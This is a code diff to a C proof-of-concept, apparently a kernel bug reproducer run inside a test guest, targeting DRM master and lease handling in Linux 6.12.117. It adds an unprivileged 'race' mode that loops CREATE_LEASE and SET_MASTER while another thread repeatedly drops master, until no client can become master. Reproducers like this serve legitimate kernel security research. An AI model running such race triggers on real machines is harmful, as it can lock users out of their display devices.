@@ -1,9 +1,10 @@
 // SPDX-License-Identifier: Apache-2.0
 /*
  * Two things that were read in drm_auth.c and drm_lease.c of 6.12.117, made to happen.  Process 1 of a guest whose
- * modules are in /modules; "lease" or "magic" is the last word on the kernel's command line, behind "--".
+ * modules are in /modules; "lease", "race" or "magic" is the last word on the kernel's command line, behind "--".
  *
  * lease: a master drops while CREATE_LEASE waits for the page with the list of objects (userfaultfd holds it).
+ * race: the same without userfaultfd and without any privilege: the two calls are made until it happens.
  * magic: a guest founds a group of its own and is closed; its old group still knows its magic number.
  */
 #define _GNU_SOURCE
@@ -27,6 +28,7 @@
 #define VGEM "/dev/dri/card0"
 #define VKMS "/dev/dri/card1"
 #define PAGE 4096ul
+#define TRIES 1000000
 
 struct lease { uint64_t ids; uint32_t count, flags, lessee, fd; };
 struct resources { uint64_t pointers[4]; uint32_t counts[4], sizes[4]; };
@@ -131,7 +133,39 @@ static void lease(void)
 	say("SET_MASTER of a later client", asked(late, SET_MASTER, 0));
 }
 
-/* The same from an administrator's process. */
+/* The other thread of `race`. */
+static void *drops_again(void *over)
+{
+	while (!*(volatile int *)over)
+		asked(card, DROP_MASTER, 0);
+	return over;
+}
+
+/* Until SET_MASTER is refused, though the only client that may be master has dropped. */
+static void race(void)
+{
+	struct lease empty;
+	pthread_t other;
+	int over = 0, i, last = 0;
+
+	if (chmod(VKMS, 0666) || setresuid(1000, 1000, 1000))
+		say("setresuid", -errno);
+	card = node(VKMS);
+	pthread_create(&other, NULL, drops_again, &over);
+	for (i = 0; i < TRIES && last != -EBUSY; i++) {
+		memset(&empty, 0, sizeof(empty));
+		if (!asked(card, CREATE_LEASE, &empty))
+			close(empty.fd);
+		last = asked(card, SET_MASTER, 0);
+	}
+	over = 1;
+	pthread_join(other, NULL);
+	say(last == -EBUSY ? "a master that nobody has" : "nothing", 0);
+	printf("finding: tries: %d\n", i);
+	close(card);
+}
+
+/* From an administrator's process, when all that was before is closed. */
 static void late_administrator(void)
 {
 	int late = node(VKMS);
@@ -175,7 +209,7 @@ int main(int count, char **arguments)
 	if (!strcmp(what, "magic")) {
 		magic();
 	} else if (fork() == 0) {
-		lease();
+		strcmp(what, "race") ? lease() : race();
 		return 0;
 	} else {
 		while (wait(NULL) > 0)
